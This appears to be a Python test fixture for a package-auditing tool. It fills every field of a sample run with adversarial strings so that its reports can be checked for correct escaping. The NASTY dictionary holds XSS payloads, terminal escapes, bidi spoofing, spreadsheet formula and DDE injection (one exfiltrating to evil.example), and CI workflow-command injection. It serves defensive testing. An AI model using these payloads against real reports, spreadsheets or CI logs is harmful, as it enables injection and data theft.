"""Text as an attacker would choose it, and a run that carries it everywhere it can go."""

from __future__ import annotations

from dataclasses import replace
from functools import cache

from auditor.model import (
    Evidence,
    Finding,
    Pin,
    PinnedFile,
    PinState,
    Reason,
    Rejection,
    RejectionCode,
    Remedy,
    RequestRecord,
    Run,
    Status,
    Touch,
    View,
)
from auditor.model.timeline import CurvePoint, Moment, Timeline
from tests.reports.sample_rows import NOW, PUBLISHED
from tests.reports.sample_runs import world
from tests.reports.world_cells import cell

# Categories (UAX #44) of characters that hide or move others.
HIDDEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
NASTY = {
    "script": "</script><script>alert(1)</script>",
    "comment": "<!--<script>",
    "attribute": '" onmouseover="alert(1)" x="',
    "single-quote": "' onload='alert(1)",
    "template": "{{ 7 * 7 }}{% raw %}",
    "escape": "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
    "c1-control": "\x9b31m",
    "carriage-return": "good\rbad",
    "newline": "first\nsecond\n::error::injected",
    "backspace": "abc\b\b\bxyz",
    "null": "a\x00b",
    "bidi": "evil\u202egnp.whl",
    "isolate": "a\u2066b\u2069c",
    "zero-width": "req\u200buests",
    "tag-characters": "a\U000e0041b",
    "line-separator": "a\u2028b\u2029c",
    "surrogate": "caf\udce9.whl",
    "url": "javascript:alert(1)",
    "formula": '=HYPERLINK("http://evil.example/?"&A1)',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-return": "\r=1+1",
    "formula-wide": "＝1+1",
    "workflow-command": "::error file=/etc/passwd,line=1::injected",
    "workflow-legacy": "##[error]injected",
    "workflow-percent": "50%0A::add-mask::secret%0D",
    "mark-link": "[click](http://evil.example/) ![i](http://evil.example/i.png) <http://a.example>",
    "mark-mention": "@everyone see #1 and org/repo#2, GH-3, www.evil.example",
    "mark-block": "# title\n\n> quote\n\n```\ncode\n```\n\n| a | b |\n|---|---|\n",
    "mark-fence": "````````sh\nrm -rf\n````````",
    "mark-emphasis": "**bold** _it_ ~~no~~ `code` $math$ :tada: a\\",
    "mark-html": "<details open><summary>x</summary><img src=x onerror=alert(1)>",
    "mark-comment": "--> </details> <!--",
    "cdata": "]]><evil/>",
    "label": 'x"} 1\nevil_metric{a="b',
    "entity": "&lt;b&gt;&#x202e;",
    "long": "x" * 50_000,
    "wide": "日本語" * 30,
    "combining": "Z" + "\u0301" * 40,
}


@cache
def hostile_run(text: str) -> Run:
    """The sample world with one text in every place that a server, file or person can fill."""
    run = world()
    first, second, *_ = run.verdicts
    lost = Rejection(filename=text, version="1.2.3", code=RejectionCode.INVALID_NAME, text=text)
    chosen = replace(
        cell("cp312-win_amd64", View.PIP, "1.2.4"),
        filename=text,
        version=text,
        reason=text,
        rejected=(lost,),
    )
    verdict = replace(
        first,
        location=replace(
            first.location,
            name=text,
            kind=text,
            url=text,
            upstream=text,
            group=text,
            settings={"cache_path": text},
            declared_at=f"{text}:7",
        ),
        vantage=text,
        detail=text,
        status=Status.EXPOSED,
        broken=replace(first.broken, files=(text,)),
        fix=replace(first.fix, missing_files=(text,)),
        selections=(chosen, replace(chosen, environment=text, reason="")),
        freshness=replace(first.freshness, etag=text, cache_control=text, cache_status=(text,)),
        lag=replace(first.lag, basis=text),
        counterfactuals={
            action: replace(foreseen, because=text)
            for action, foreseen in first.counterfactuals.items()
        },
        reasons=(Reason(code=text, text=text, expected=text, observed=text, evidence=(text,)),),
        remedies=(Remedy(command=text, effect=text, caution=text),),
        pins=(
            Pin(
                where=text,
                state=PinState.FORCED,
                version=text,
                specifier=text,
                files=(PinnedFile(filename=text, url=text, hashes={text: text}),),
                marker=text,
                how=text,
                evidence=(text,),
            ),
        ),
        proxy=text,
        notes=(text,),
        evidence=(
            Evidence(
                id=text,
                request=text,
                response={text: text},
                digest=text,
                excerpt=text,
                reproduce=text,
            ),
        ),
    )
    request = RequestRecord(
        location=text, method=text, url=text, touch=Touch.INERT, status=200, sent_at=NOW
    )
    finding = Finding(code=text, text=text, expected=text, observed=text, failing=True)
    return replace(
        run,
        findings=(finding,),
        verdicts=(verdict, replace(second, selections=second.selections[:8])),
        incident=replace(run.incident, id=text, broken=("1.2.3",)),
        summary=replace(run.summary, sentence=text, whose_text=text, notes=(text,)),
        deletion=replace(run.deletion, sentence=text, locations=(text,)),
        requests=(request,),
        tool_versions={text: text},
        timeline=_timeline(text),
    )


def _timeline(text: str) -> Timeline:
    """A history in which rows and statuses are called so."""
    moment = Moment(
        at=PUBLISHED, location=text, vantage=text, before=text, after=text, seen_before=None
    )
    points = (CurvePoint(at=time, with_fix=1, without=1, unknown=1) for time in (PUBLISHED, NOW))
    return Timeline(
        since=PUBLISHED,
        until=NOW,
        runs=2,
        fix_seen_at=PUBLISHED,
        moments=(moment, replace(moment, before=None)),
        curve=tuple(points),
    )
